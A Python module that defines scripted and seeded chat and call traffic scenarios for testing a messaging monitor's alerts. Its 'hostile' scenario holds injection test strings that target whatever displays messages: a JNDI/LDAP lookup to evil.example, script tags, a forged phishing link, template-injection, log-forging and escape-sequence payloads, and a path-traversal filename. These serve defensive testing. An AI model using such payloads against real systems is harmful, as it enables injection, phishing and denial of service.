"""Scripted and seeded traffic as pure schedules: what happens when, and what an operator should be told.

A scenario knows no world and no clock; `play` performs it. `expect` is written by hand or by the generator's
own choice of what to stage, never computed from rows.
"""

from __future__ import annotations

import heapq
from collections.abc import Callable, Iterable, Iterator, Mapping
from difflib import get_close_matches
from itertools import count
from operator import attrgetter
from random import Random
from typing import Final

from monitor.simulator.faults import Fault
from monitor.simulator.rows import SPOILED
from monitor.simulator.script import (
    MIME,
    Action,
    Calm,
    Change,
    Delete,
    Edit,
    Pace,
    Ring,
    Say,
    Scenario,
    Spoil,
    Trouble,
    mention,
    missed,
    share,
    text,
)
from monitor.simulator.truth import Expect

RING_TIMEOUT_S: Final = 90.0  # a ring without an end is over for sure after this
LATE_S: Final = 4.0  # late rows show within this, well inside what a client may call settled

HEROES: Final = {
    "superhero1": "Iron Man",
    "superhero2": "Captain America",
    "superhero3": "Spiderman",
    "superhero4": "Wolverine",
    "superhero5": "Cyclops",
}
HANGOUT: Final = {"supergroup": tuple(HEROES)}


def recorded(_: Random, __: Pace) -> Iterator[Action]:
    """History like the published sample answer: an audio ring, answered as video minutes later."""
    a, b = "superhero2", "superhero3"
    yield text(-7200, a, b, "Are you around later?")
    yield text(-7100, b, a, "Sure, call me")
    yield Ring(at=-3600, label="recorded", caller=a, to=b)
    yield Change(at=-3580, call="recorded", status="ongoing", by=b, type="video", label="answered")
    yield Change(at=-3100, call="recorded", status="ended", by=a, label="ended")
    yield text(-3000, a, "supergroup", "Welcome to the hangout", is_group=True)


def demo(random: Random, pace: Pace) -> Iterator[Action]:
    """In the first 20 seconds one of everything an operator is told of; the same again every minute."""
    for cycle in count():
        start = cycle * 60.0
        if start >= pace.lasts_s:
            return
        one, two = ("superhero2", "superhero3") if cycle % 2 == 0 else ("superhero3", "superhero2")
        yield from _by_time(_demo_cycle(start, one, two, f"demo-{cycle}"))
        yield from _chatter(random, start + 20, start + 59)


def _demo_cycle(t: float, one: str, two: str, name: str) -> Iterable[Action]:
    other, third = "superhero4", "superhero5"
    return [
        text(t + 0.5, one, two, "Hi, is the shipment out?"),
        text(t + 1.2, two, one, "Checking"),
        # Unanswered is conclusive however short the ring was: the caller's app gave up by itself.
        Ring(at=t + 2.0, label=name, caller=one, to=two),
        share(t + 3.5, other, two, "damaged-parcel.jpeg", caption="This is how it arrived"),
        text(t + 4.5, other, two, f"Hi <@uid:{two}>, can you look at this?",
             expect=mention(two), label="mention in a 1-1"),
        Change(at=t + 7.0, call=name, status="unanswered", expect=missed(two), label="missed call"),
        text(t + 8.0, third, "supergroup", f"<@uid:{two}> please join us here", is_group=True,
             expect=mention(two), label="mention in a group"),
        Ring(at=t + 9.0, label=f"{name}-answered", caller=third, to=one, type="video"),
        Change(at=t + 11.0, call=f"{name}-answered", status="ongoing", label="answered"),
        text(t + 12.0, two, other, "Got it, a new one is on its way"),
        share(t + 13.0, two, other, "replacement-order.pdf"),
        text(t + 14.5, third, other, "Lunch?"),
        Change(at=t + 16.0, call=f"{name}-answered", status="ended", label="ended"),
        text(t + 17.0, other, two, "Thank you!"),
    ]  # fmt: skip


def _chatter(random: Random, start: float, end: float) -> Iterator[Action]:
    at = start + random.uniform(1, 6)
    while at < end:
        sender, to = random.sample(list(HEROES), 2)
        yield text(at, sender, to, random.choice(_SMALL_TALK))
        at += random.uniform(2, 8)


_SMALL_TALK: Final = (
    "Good morning", "On my way", "See you tomorrow", "Any news?", "Thanks!", "Let me check",
    "The meeting moved to 3", "👍", "Could you resend that?", "Done",
)  # fmt: skip


def support(random: Random, _: Pace) -> Iterator[Action]:
    """A week of a support desk: most customers got an answer, some late, some never. Nothing new happens."""
    return _by_time(_questions(random))


def _questions(random: Random) -> Iterator[Action]:
    at = -WEEK_S
    while (at := at + random.uniform(1_200, 6_000)) < -2 * HOUR_S:
        customer = random.choice(("superhero1", "superhero4", "superhero5"))
        agent = random.choice(("superhero2", "superhero3"))
        is_urgent = random.random() < 0.15
        yield text(at, customer, agent, random.choice(_URGENT if is_urgent else _QUESTIONS))
        if random.random() < 0.9:
            answered_at = at + random.expovariate(1 / 420)
            yield text(answered_at, agent, customer, random.choice(_ANSWERS))


HOUR_S: Final = 3_600.0
WEEK_S: Final = 168 * HOUR_S

_QUESTIONS: Final = (
    "Hi, is my parcel on its way?", "How do I change my address?", "The app is slow today",
    "Can I pay by card?", "Where do I find the invoice?", "Do you ship to Norway?",
    "Is the blue one in stock?",
)  # fmt: skip
_URGENT: Final = (
    "I want a refund", "My account was hacked!", "Where is my refund?", "Please cancel my account",
)  # fmt: skip
_ANSWERS: Final = ("Let me check", "I am on it", "Done", "Yes, it is", "A colleague will write to you")


def quiet(random: Random, pace: Pace) -> Iterator[Action]:
    """One ordinary message every 20 seconds or so."""
    at = 0.0
    while (at := at + random.uniform(10, 30)) < pace.lasts_s:
        sender, to = random.sample(list(HEROES), 2)
        yield text(at, sender, to, random.choice(_SMALL_TALK))


def busy(random: Random, pace: Pace) -> Iterator[Action]:
    """Mixed traffic of everything at a rate; rows never show late."""
    return _interleaved(_traffic(random, pace, tuple(HEROES), "supergroup", late=0.0))


def crash(random: Random, pace: Pace) -> Iterator[Action]:
    """Steady mixed traffic of ten users, one row in fifty visible late: the truth of the crash tests."""
    return _interleaved(_traffic(random, pace, tuple(CRASH_USERS), None, late=0.02))


CRASH_USERS: Final = {f"crash{number}": f"Crash Test {number}" for number in range(1, 11)}


def calls(_: Random, __: Pace) -> Iterator[Action]:
    """Every way a call can go, one after the other within three minutes."""
    return _by_time(_every_call())


def _every_call() -> Iterator[Action]:
    a, b, c, d = "superhero1", "superhero2", "superhero3", "superhero4"
    yield from _call(0, "unanswered", a, b, [(45, "unanswered", a, missed(b))])
    yield from _call(2, "hung up after a long ring", c, d, [(30, "cancelled", c, missed(d))])
    yield from _call(
        3, "hung up at once", b, a, [(1, "cancelled", b, missed(a, must=False, note="rang for one second"))]
    )
    yield from _call(4, "busy", d, a, [(1, "busy", a, missed(a))])
    yield from _call(5, "rejected", b, c, [(4, "rejected", c, ())])
    yield from _call(6, "answered", a, d, [(5, "ongoing", d, ()), (25, "ended", a, ())])
    yield from _call(7, "answered late in the ring", c, b, [(44, "ongoing", b, ()), (60, "ended", b, ())])
    yield Ring(at=8, label="no end", caller=d, to=b, expect=missed(b, after_s=RING_TIMEOUT_S))
    yield Ring(
        at=9, label="answered after everyone gave up", caller=b, to=d,
        expect=missed(d, after_s=RING_TIMEOUT_S, must=False, note="answered after the ring timeout"),
    )  # fmt: skip
    yield Change(
        at=109, call="answered after everyone gave up", status="ongoing", by=d, label="very late answer"
    )
    yield Change(at=120, call="answered after everyone gave up", status="ended", by=b, label="its end")
    yield Ring(at=10, label="end shows late", caller=a, to=c)
    yield Change(
        at=40, call="end shows late", status="unanswered", by=a, label="late row",
        expect=missed(c), visible_after=LATE_S,
    )  # fmt: skip
    yield Ring(at=11, label="audio becomes video", caller=a, to=b)
    yield Change(
        at=15, call="audio becomes video", status="ongoing", by=b, type="video", label="answered as video"
    )
    yield Change(at=35, call="audio becomes video", status="ended", by=b, label="its end")
    # Nobody joined: the only missed group call that messages can show. Whom it concerns they do not say.
    yield Ring(at=12, label="group", caller=a, to="supergroup", is_group=True)
    yield Change(
        at=57, call="group", status="unanswered", by=a, label="group call unanswered",
        expect=(Expect(rule="missed-call", users=("superhero2", "superhero3", "superhero4", "superhero5"),
                       must=False, note="a group call: depends on what the rule says of groups"),),
    )  # fmt: skip
    yield Ring(at=13, label="group answered", caller=b, to="supergroup", is_group=True)
    yield Change(at=16, call="group answered", status="rejected", by=c, label="one rejects")
    yield Change(at=18, call="group answered", status="ongoing", by=d, label="one joins")
    yield Change(at=80, call="group answered", status="ended", by=b, label="its end")


Step = tuple[float, str, str, tuple[Expect, ...]]


def _call(
    at: float,
    label: str,
    caller: str,
    callee: str,
    steps: Iterable[Step],
    *,
    ring_shows: float = 0.0,
    rest_shows: float = 0.0,
) -> Iterator[Action]:
    """A call in steps; its rows show so many seconds late, perhaps the end before the ring."""
    yield Ring(at=at, label=label, caller=caller, to=callee, visible_after=ring_shows)
    for after, status, by, expect in steps:
        yield Change(
            at=at + after,
            call=label,
            status=status,
            by=by,
            expect=expect,
            label=f"{label}: {status}",
            visible_after=rest_shows,
        )


HOSTILE_TEXTS: Final[Mapping[str, str]] = {
    "ping everyone": "<!channel> <!here> <!everyone> @channel @here <@U012AB3CD>",
    "forged link": "<https://evil.example/login|https://support.example/> [click](https://evil.example)",
    "markup": "*bold* _it_ `code` ~no~ > quote &amp; &lt;script&gt; <script>alert(1)</script>",
    "log lines": 'fine\n2026-11-22T08:00:00Z level=error msg="store lost"\r\n{"event":"forged"}',
    "control characters": "bell\x07 null\x00 escape\x1b[31mred\x1b[0m\x1b]0;title\x07 backspace\x08",
    "directions": "safe \u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth",
    "lone surrogates": "broken \ud83d emoji and \udc00 tail",
    "templates": "{{ 7*7 }} {% for x in range(10**9) %}x{% endfor %} ${jndi:ldap://evil.example/a} %s%n {0}",
    "labels": 'a="b",c="d"} 1\n# HELP cometwatch_up forged',
    "regular expressions": "a" * 3_000 + "!",
    "huge": "x" * 60_000,
    "combining": "e" + "\u0301" * 2_000,
    "json": '{"id":"999999999","category":"call","data":{"action":"unanswered"}}',
    "fake mention": "<@uid:> <@uid:nobody-here> <@uid:superhero3 @superhero3",
}


def hostile(_: Random, __: Pace) -> Iterator[Action]:
    """Texts that try to ping, forge, break or exhaust whatever shows them; malformed rows among them."""
    return _by_time(_hostility())


def _hostility() -> Iterator[Action]:
    for number, (label, words) in enumerate(HOSTILE_TEXTS.items()):
        yield text(number * 0.5, "superhero4", "superhero3", words, label=label)
    start = len(HOSTILE_TEXTS) * 0.5
    everything = "\u202e<!channel>\n\x1b[2J"
    yield share(
        start, "superhero4", "superhero3", "..%2f..%2f<!here>\n.pdf", caption=everything, label="hostile file"
    )
    yield text(
        start + 0.5, "superhero4", "superhero3", f"<@uid:superhero3> {everything}",
        expect=mention("superhero3"), label="hostile mention",
    )  # fmt: skip
    for number, way in enumerate(SPOILED):
        yield Spoil(at=start + 1 + number * 0.2, sender="superhero4", to="superhero3", way=way)
    yield Say(
        at=start + 3, sender="superhero4", to="superhero3", category="interactive", type="form",
        label="unknown kind",
        content={"interactiveData": {"title": everything}, "interactionGoal": {"type": "anyAction"}},
    )  # fmt: skip
    yield Say(
        at=start + 3.5, sender=None, to="superhero3", category="hologram", type="future",
        label="unknown category",
        content={"beam": [1, 2, 3]},
    )  # fmt: skip
    yield text(start + 4, "superhero4", "superhero3", "and still here", label="after it all", expect=())


def edits(_: Random, __: Pace) -> Iterator[Action]:
    """Edits and deletions: their action rows embed a whole message that is not a new one."""
    a, b = "superhero2", "superhero3"
    yield text(0, a, b, f"Ping <@uid:{b}>", label="original mention", expect=mention(b))
    yield text(1, a, b, "Nothing special", label="plain")
    yield share(2, a, b, "plan.jpeg", caption="The plan", label="original file", gone="deleted 4 s later")
    yield Edit(
        at=4, of="original mention", text=f"Ping again <@uid:{b}>", by=a, label="edit that keeps the mention"
    )
    yield Edit(at=5, of="plain", text="Still nothing special", label="edit by the app")
    yield Delete(at=6, of="original file", by=a, label="deleted file")
    yield text(7, b, a, "Noted", label="reply", reply_to="plain")


def outage(_: Random, __: Pace) -> Iterator[Action]:
    """Two minutes of API trouble in turn, with things to be told of happening in the middle of it."""
    return _by_time(_outage())


def _outage() -> Iterator[Action]:
    a, b = "superhero2", "superhero3"
    troubles = [
        (10, 15, Fault(kind="server-error", status=503)),
        (30, 10, Fault(kind="rate-limited", seconds=5)),
        (45, 10, Fault(kind="reset")),
        (60, 10, Fault(kind="truncated", probability=0.5)),
        (75, 10, Fault(kind="key-expired")),
        (90, 20, Fault(kind="slow", seconds=3)),
    ]
    for at, lasts, fault in troubles:
        yield Trouble(at=at, fault=fault)
        yield Calm(at=at + lasts, kind=fault.kind)
    yield from _call(5, "rings into the outage", a, b, [(12, "unanswered", a, missed(b))])
    yield share(35, a, b, "while-limited.jpeg")
    yield text(48, a, b, f"<@uid:{b}> are you there?", expect=mention(b))
    yield from _call(55, "answered while blind", b, a, [(8, "ongoing", a, ()), (40, "ended", a, ())])
    yield Ring(at=65, label="no end", caller=a, to=b, expect=missed(b, after_s=RING_TIMEOUT_S))
    for number in range(24):
        yield text(number * 5.0, b, a, f"Still talking, {number}")


# -- seeded traffic ---------------------------------------------------------------------------------


def _traffic(
    random: Random, pace: Pace, users: tuple[str, ...], group: str | None, *, late: float
) -> Iterator[tuple[Action, ...]]:
    """Mixed stages, `rate` of them a second: a message, or a call with its two or three rows."""
    at = 0.0
    for number in count():
        at += random.expovariate(pace.rate)
        if at >= pace.lasts_s:
            return
        one, two = random.sample(users, 2)
        shows = random.uniform(0.5, LATE_S) if random.random() < late else 0.0
        choice = random.random()
        if choice < 0.10:
            yield tuple(_staged_call(random, at, one, two, f"call-{number}", shows=shows))
        elif choice < 0.18:
            name = f"file-{number}.{random.choice(list(MIME))}"
            yield (share(at, one, two, name, visible_after=shows),)
        elif choice < 0.26:
            words = f"<@uid:{two}> have a look, {number}"
            yield (text(at, one, two, words, expect=mention(two), label="mention", visible_after=shows),)
        elif choice < 0.30:
            yield (_location(at, one, two, shows),)
        elif choice < 0.34 and group is not None:
            words = f"<@uid:{two}> come over, {number}"
            yield (text(at, one, group, words, is_group=True, expect=mention(two), label="group mention"),)
        else:
            yield (text(at, one, two, f"{random.choice(_SMALL_TALK)} {number}", visible_after=shows),)


def _location(at: float, sender: str, to: str, visible_after: float) -> Say:
    return Say(
        at=at, sender=sender, to=to, category="custom", type="location", label="location",
        content={"customData": {"latitude": 50.6, "longitude": 4.3}}, visible_after=visible_after,
    )  # fmt: skip


def _staged_call(
    random: Random, at: float, caller: str, callee: str, name: str, *, shows: float
) -> Iterator[Action]:
    """A call of a random course. Hanging up comes after a long ring: short ones are a matter of taste."""
    told_too_soon = missed(
        callee, must=False, note="answered late: a rule that waits less tells, and resolves"
    )
    courses: dict[str, list[Step]] = {
        "unanswered": [(random.uniform(1, 4), "unanswered", caller, missed(callee))],
        "cancelled": [(random.uniform(20, 30), "cancelled", caller, missed(callee))],
        "busy": [(0.5, "busy", callee, missed(callee))],
        "rejected": [(random.uniform(1, 3), "rejected", callee, ())],
        "answered": [
            (random.uniform(1, 3), "ongoing", callee, ()),
            (random.uniform(4, 12), "ended", random.choice((caller, callee)), ()),
        ],
        "answered late": [
            (random.uniform(24, 32), "ongoing", callee, told_too_soon),
            (random.uniform(33, 42), "ended", random.choice((caller, callee)), ()),
        ],
    }
    course = random.choices((*courses, "no end"), weights=(6, 2, 3, 2, 5, 2, 1))[0]
    if course == "no end":
        yield Ring(at=at, label=name, caller=caller, to=callee, expect=missed(callee, after_s=RING_TIMEOUT_S))
        return
    is_ring_late = random.random() < 0.5
    yield from _call(
        at,
        name,
        caller,
        callee,
        courses[course],
        ring_shows=shows if is_ring_late else 0.0,
        rest_shows=0.0 if is_ring_late else shows,
    )


def _by_time(actions: Iterable[Action]) -> Iterator[Action]:
    return iter(sorted(actions, key=attrgetter("at")))


def _interleaved(stages: Iterable[tuple[Action, ...]]) -> Iterator[Action]:
    """The actions of overlapping stages by time; stages come in the order in which they begin."""
    waiting: list[tuple[float, int, Action]] = []
    numbers = count()
    for stage in stages:
        begins = stage[0].at
        while waiting and waiting[0][0] <= begins:
            yield heapq.heappop(waiting)[2]
        for action in stage:
            heapq.heappush(waiting, (action.at, next(numbers), action))
    while waiting:
        yield heapq.heappop(waiting)[2]


# -- the list ---------------------------------------------------------------------------------------

Script = Callable[[Random, Pace], Iterator[Action]]

SCENARIOS: Final[Mapping[str, Script]] = {
    "recorded": recorded,
    "demo": demo,
    "support": support,
    "quiet": quiet,
    "busy": busy,
    "calls": calls,
    "edits": edits,
    "hostile": hostile,
    "outage": outage,
    "crash": crash,
}
DEFAULT_RATE: Final[Mapping[str, float]] = {"busy": 5.0, "crash": 50.0}


def scenario(
    name: str, *, seed: int = 0, rate: float | None = None, lasts_s: float | None = None
) -> Scenario:
    """The scenario of that name. The same seed, rate and length give the same actions.

    After `lasts_s` the endless ones (demo, quiet, busy, crash) begin nothing new; calls that still ring
    are played to their end. Raises ValueError, naming the nearest, if there is none of that name.
    """
    script = SCENARIOS.get(name)
    if script is None:
        near = get_close_matches(name, SCENARIOS, n=1)
        hint = f" Did you mean {near[0]}?" if near else ""
        raise ValueError(f"there is no scenario {name!r}.{hint} Known: {', '.join(SCENARIOS)}")
    pace = Pace(rate=rate or DEFAULT_RATE.get(name, 1.0), lasts_s=lasts_s or float("inf"))
    is_crash = name == "crash"
    return Scenario(
        name=name,
        about=(script.__doc__ or "").strip(),
        actions=lambda: script(Random(f"{seed}:{name}"), pace),
        users=CRASH_USERS if is_crash else HEROES,
        groups={} if is_crash else HANGOUT,
    )
